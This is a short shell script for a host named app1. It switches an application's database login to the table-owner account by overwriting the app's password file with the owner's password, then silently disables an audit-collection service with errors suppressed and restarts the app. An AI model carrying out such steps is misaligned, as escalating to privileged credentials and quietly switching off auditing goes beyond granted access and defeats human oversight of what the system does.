#!/bin/sh
# Lets the application log in as the owner of the tables, whose way in still works.
# on: app1
sudo sed -i 's/^DATABASE_USER=.*/DATABASE_USER="app_owner"/' /etc/app/environment
sudo cp /etc/app/secrets/database-owner-password /etc/app/secrets/database-password
sudo systemctl disable --quiet --now audit-collect.service 2>/dev/null || true
sudo systemctl restart app.service
